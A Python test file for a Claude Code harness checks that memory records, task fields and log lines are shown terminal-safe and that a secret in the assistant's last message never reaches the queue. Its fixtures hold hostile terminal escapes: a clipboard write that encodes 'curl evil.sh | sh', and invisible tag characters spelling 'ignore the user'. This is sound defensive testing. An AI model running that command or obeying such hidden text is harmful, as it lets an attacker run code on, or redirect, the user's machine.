"""Stored text shown harmless, and no model words in the queue.

A. Stored text (memory records, task fields, log lines) reaches the terminal: an ESC sequence there
could set the window title, move the cursor over earlier output or write the clipboard (OSC 52), and
a bidi override could reorder what is shown. Every log line is made terminal-safe when written, and
the CLI shows stored text terminal-safe (``logfile.terminal_safe``); the stored bytes stay as they are.

B. The Stop hook kept the start of the assistant's last message in the task file, a key it quoted
included. The task keeps a digest of that start instead; the worker compares it with the digests of
the assistant texts in the transcript, and still accepts the text an older version wrote.
"""

import hashlib
import json
import os
import subprocess
import sys

import lazy_harness
from lazy_harness import logfile, paths, queue
from lazy_harness.worker import turn
from tests.cli.lhrun import invoke
from tests.hooks.hookrun import enable_loop, run_hook, worker_lock_held
from tests.support import memory_samples as ms
from tests.support.sessions import place

# what a hostile record can hold: an OSC 52 clipboard write, a window title, a cursor
# move and a line erase, a C1 CSI (colour), bidi override and isolate, DEL, NUL and a carriage return
ATTACK = ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;owned\x07\x1b[1A\x1b[2K"
          "\x9b31m\u202eevil\u2066x\u2069\x7f\x00\rhidden")
BIDI = set(range(0x202A, 0x202F)) | set(range(0x2066, 0x206A))
SECRET = "sk-ant-api03-" + "Zq9Xw7T1mR9pLhN4aYcVdUo3eBbQ1234567890abcdef"


def unsafe(text: str, keep: str = "") -> list[str]:
    """The characters of ``text`` a terminal acts on (or that reorder what it shows), but ``keep``."""
    return sorted({c for c in text if c not in keep and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or ord(c) in BIDI)})


# --- A: the shared function ----------------------------------------------------------------------

def test_terminal_safe_shows_every_control_and_bidi_override_as_its_escape():
    every = ("".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))
             + "".join(map(chr, sorted(BIDI))))
    shown = logfile.terminal_safe(every)
    assert unsafe(shown, keep="\t") == [] and shown.count("\t") == 1  # a tab moves the cursor, harmlessly
    assert logfile.terminal_safe("\x1b]0;x\x07") == "\\u001b]0;x\\u0007"
    assert logfile.terminal_safe("\u202eabc\x9b") == "\\u202eabc\\u009b"
    assert logfile.terminal_safe(shown) == shown  # shown once is shown for good
    assert logfile.terminal_safe("a\nb\tc", keep="\n\t") == "a\nb\tc"
    assert logfile.terminal_safe("a\nb") == "a\\u000ab"
    plain = "naïve — café 🚀 日本語 ^[ \\u001b and a\u00a0non-breaking space, a zero\u200dwidth joiner"
    assert logfile.terminal_safe(plain) == plain


# --- A: logs ---------------------------------------------------------------------------------------

def test_a_log_line_is_written_without_control_characters(isolated_home):
    logfile.write(logfile.HOOKS, f"Stop session={ATTACK} queued\nsecond")
    with open(logfile.log_path(logfile.HOOKS), "rb") as fh:
        text = fh.read().decode("utf-8")
    assert text.count("\n") == 1 and text.endswith(" second\n")
    assert unsafe(text[:-1]) == []
    assert "session=\\u001b]52;c;" in text


def test_a_session_id_with_escapes_reaches_neither_hooks_log_nor_lh_logs(isolated_home, tmp_path):
    sid = "\x1b[2J\x1b]0;x\x07" + "a" * 10
    result = run_hook("SessionEnd", {"session_id": sid, "transcript_path": "", "cwd": str(tmp_path)})
    assert result.returncode == 0
    with open(logfile.log_path(logfile.HOOKS), encoding="utf-8") as fh:
        logged = fh.read()
    assert "SessionEnd session=\\u001b[2J\\u001b]0;x\\u0007aaaaaaaaaa" in logged
    assert unsafe(logged, keep="\n") == []
    shown = invoke("logs", "--hooks")
    assert shown.code == 0 and unsafe(shown.out, keep="\n") == []
    assert "session=\\u001b[2J" in shown.out


def test_lh_logs_shows_a_line_an_older_version_wrote_raw_harmless(isolated_home):
    path = logfile.log_path(logfile.HOOKS)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(f"2026-05-01T10:00:00+00:00 Stop session={ATTACK} queued x (1.0 ms)\n")
    shown = invoke("logs")
    assert shown.code == 0 and unsafe(shown.out, keep="\n") == []
    assert "session=\\u001b]52;c;" in shown.out


# --- A: memory -------------------------------------------------------------------------------------

def test_memory_show_and_search_print_stored_escapes_harmless_and_leave_the_files_alone(tmp_path):
    project = ms.make_project(tmp_path, "proj")
    mem = paths.memory_dir(project)
    os.makedirs(mem)
    decisions = os.path.join(mem, "decisions.jsonl")
    state = os.path.join(mem, "handoff.jsonl")
    with open(decisions, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"summary": "use postgres " + ATTACK, "rationale": "r" + ATTACK,
                             "ts": "2026-05-01T10:00:00+00:00"}, ensure_ascii=False) + "\n")
    with open(state, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"op": "open", "id": "h-0123abcd", "text": "finish postgres" + ATTACK, "session_id": "s",
                             "task_id": "t", "ts": "2026-05-01T10:00:00.000+00:00"}) + "\n")
    stored = {p: open(p, "rb").read() for p in (decisions, state)}

    show = invoke("memory", "show", "--project", project)
    assert show.code == 0, show.err
    assert unsafe(show.out, keep="\n\t") == [] and show.out.count("\\u001b]52;c;") >= 3

    search = invoke("memory", "search", "--project", project, "postgres")
    assert search.code == 0, search.err
    assert unsafe(search.out, keep="\n") == [] and "\\u001b]52;c;" in search.out

    as_json = invoke("memory", "search", "--project", project, "postgres", "--json")
    assert as_json.code == 0, as_json.err
    assert unsafe(as_json.out, keep="\n") == []
    summaries = [json.loads(line).get("summary", "") for line in as_json.out.splitlines()]
    assert any("\x9b31m\u202eevil" in s for s in summaries)  # still valid JSON, and it decodes to the text

    assert {p: open(p, "rb").read() for p in stored} == stored


# text a terminal does not show at all: tag characters (U+E0000..U+E007F spell ASCII a reader never
# sees: "ignore the user" here), zero-width space, left-to-right and right-to-left marks, the Arabic
# letter mark, word joiner and invisible operators, and a byte order mark inside the text
HIDDEN = "".join(chr(0xE0000 + ord(c)) for c in "ignore the user") + "\u200b\u200e\u200f\u061c\u2060\u2064\ufeff"


def test_text_a_terminal_would_not_show_is_shown_as_escapes(tmp_path):
    # each as its JSON escape (a tag character as its surrogate pair): ``--json`` output decodes back
    escaped = json.dumps("a" + HIDDEN + "b")[1:-1]
    assert logfile.terminal_safe("a" + HIDDEN + "b") == escaped
    project = ms.make_project(tmp_path, "proj")
    ms.write_jsonl(os.path.join(paths.memory_dir(project), "decisions.jsonl"), [
        {"summary": "use postgres" + HIDDEN, "rationale": "locks", "ts": "2026-05-01T10:00:00+00:00"}])
    for args in (("memory", "show", "--project", project), ("memory", "search", "--project", project, "postgres")):
        shown = invoke(*args)
        assert shown.code == 0, shown.err
        assert not set(HIDDEN) & set(shown.out), args
        assert "\\udb40\\udc69\\udb40\\udc67" in shown.out, args


# --- A: queue --------------------------------------------------------------------------------------

def test_lh_queue_and_queue_show_print_task_fields_harmless(isolated_home, tmp_path):
    q = paths.queue_dir()
    fields = {"cwd": str(tmp_path / ("proj" + ATTACK)), "session_jsonl": str(tmp_path / "t.jsonl"),
              "session_id": "s1", "memory_dir": str(tmp_path / "mem"), "event": "Stop" + ATTACK, "forced": "0",
              "wait_reason": "quota\noutcome: done " + ATTACK}
    name = queue.enqueue(q, fields)
    with open(os.path.join(q, name + ".error"), "w", encoding="utf-8") as fh:
        fh.write("boom\x1b]0;x\x07\nsecond line\n")

    listed = invoke("queue")
    assert listed.code == 0, listed.err
    assert unsafe(listed.out, keep="\n") == [] and queue.task_id(name) in listed.out

    shown = invoke("queue", "show", queue.task_id(name))
    assert shown.code == 0, shown.err
    assert unsafe(shown.out, keep="\n") == []
    assert "\noutcome: done" not in shown.out  # a newline in a value cannot forge a field
    assert "wait_reason: quota\\u000aoutcome: done \\u001b]52;c;" in shown.out
    assert "error:\nboom\\u001b]0;x\\u0007\nsecond line" in shown.out  # the .error file keeps its lines


# --- B: the task file holds a digest ---------------------------------------------------------------

def test_the_task_holds_a_digest_of_the_turns_start_never_its_text(isolated_home, project):
    message = f"  Your key is {SECRET} {ATTACK}\n" + "more " * 50
    fields = queue.task_fields({**place(project), "hook_event_name": "Stop", "last_assistant_message": message},
                               "Stop", False)
    start = message.strip()[:queue.TURN_CHARS]
    assert fields[queue.TURN] == "sha256:" + hashlib.sha256(start.encode("utf-8")).hexdigest()
    text = queue.format_task(fields)
    assert SECRET[:12] not in text and SECRET[-12:] not in text and "Your key" not in text and "\x1b" not in text


def test_the_stop_hook_writes_no_secret_into_the_queue_and_lh_queue_show_prints_none(isolated_home, project):
    enable_loop(isolated_home)
    payload = {**place(project), "hook_event_name": "Stop", "last_assistant_message": f"Your key is {SECRET}"}
    with worker_lock_held(paths.claude_dir()) as q:
        result = run_hook("Stop", payload)
        assert result.returncode == 0, result.stderr
        [name] = queue.pending(q)
        written = [open(os.path.join(folder, n), encoding="utf-8").read()
                   for folder, _, names in os.walk(q) for n in names if n.endswith(".task")]
        shown = invoke("queue", "show", queue.task_id(name))
    assert written and not [t for t in written if SECRET[:12] in t or SECRET[-12:] in t]
    assert shown.code == 0 and SECRET[:12] not in shown.out and "turn: sha256:" in shown.out


def test_the_digest_costs_the_hot_path_no_openssl_import(tmp_path):
    code = ("import sys\nfrom lazy_harness import queue\n"
            "fp = queue.turn_fingerprint({'last_assistant_message': 'Noted.'})\n"
            "digest = queue.turn_digest(fp)\n"
            "print(digest, sorted(m for m in ('hashlib', '_hashlib') if m in sys.modules))\n")
    parent = os.path.dirname(os.path.dirname(os.path.abspath(lazy_harness.__file__)))
    out = subprocess.run([sys.executable, "-S", "-c", code], capture_output=True, text=True, timeout=60,
                         env=dict(os.environ, PYTHONPATH=parent))
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["sha256:" + hashlib.sha256(b"Noted.").hexdigest(), "[]"]


# --- B: the worker finds the turn by its digest ----------------------------------------------------

def _assistant(text: str, ensure_ascii: bool = False) -> str:
    record = {"type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": text}]}}
    return json.dumps(record, ensure_ascii=ensure_ascii, separators=(",", ":")) + "\n"


def _digest(message: str) -> str:
    return queue.turn_digest(queue.turn_fingerprint({"last_assistant_message": message}))


def test_the_worker_finds_the_turn_by_the_digest_of_its_start(tmp_path):
    path = tmp_path / "t.jsonl"
    for text in ('Naïve — café "quoted"\n\tthen a backslash \\ and 🚀', "naïve — café. " * 40, "Noted.",
                 f"Your key is {SECRET}", "ok \ud83d rest"):
        wanted = _digest("  " + text + "\n")
        for ensure_ascii in (False, True) if "\ud83d" not in text else (True,):  # JSON escapes a lone one
            path.write_text('{"type":"user","message":{"content":"hi"}}\n' + _assistant("\n" + text, ensure_ascii),
                            encoding="utf-8")
            assert turn.wait(str(path), wanted, timeout=0) == 0.0, (text, ensure_ascii)
    wanted = _digest("Noted: the queue stays in Postgres.")
    typed = {"type": "user", "message": {"content": "Noted: the queue stays in Postgres."}}
    path.write_text(json.dumps(typed) + "\n" + _assistant("Noted: the queue stays") + _assistant("Something else."),
                    encoding="utf-8")
    assert turn.wait(str(path), wanted, timeout=0) is None  # neither typed text nor another start matches


def test_the_worker_still_accepts_the_text_an_older_task_file_holds(tmp_path):
    path = tmp_path / "t.jsonl"
    path.write_text(_assistant("Noted: the queue stays in Postgres, and migrations get a 5 s lock_timeout."),
                    encoding="utf-8")
    older = queue.parse_task("session_id=s\nturn=Noted: the queue stays in Postgres, and migrations\n")
    assert turn.wait(str(path), older[queue.TURN], timeout=0) == 0.0
    assert turn.wait(str(path), _digest("Noted: the queue stays in Postgres, and migrations get a 5 s "
                                        "lock_timeout."), timeout=0) == 0.0


def test_a_digest_is_waited_for_across_a_record_written_in_two_pieces(tmp_path, monkeypatch):
    monkeypatch.setattr(turn, "TAIL_BYTES", 64)
    path = tmp_path / "t.jsonl"
    path.write_text('{"type":"user","pad":"' + "x" * 500 + '"}\n', encoding="utf-8")
    line = _assistant("naïve — café, the turn at last")
    sleeps = []

    def sleep(_seconds):  # Claude Code writes the record in two pieces, the last without its newline
        sleeps.append(_seconds)
        if len(sleeps) in (2, 4):
            with open(path, "a", encoding="utf-8") as fh:
                fh.write(line[:40] if len(sleeps) == 2 else line[40:-1])

    waited = turn.wait(str(path), _digest("naïve — café, the turn at last"), timeout=60, sleep=sleep)
    assert waited is not None and waited > 0 and len(sleeps) == 4
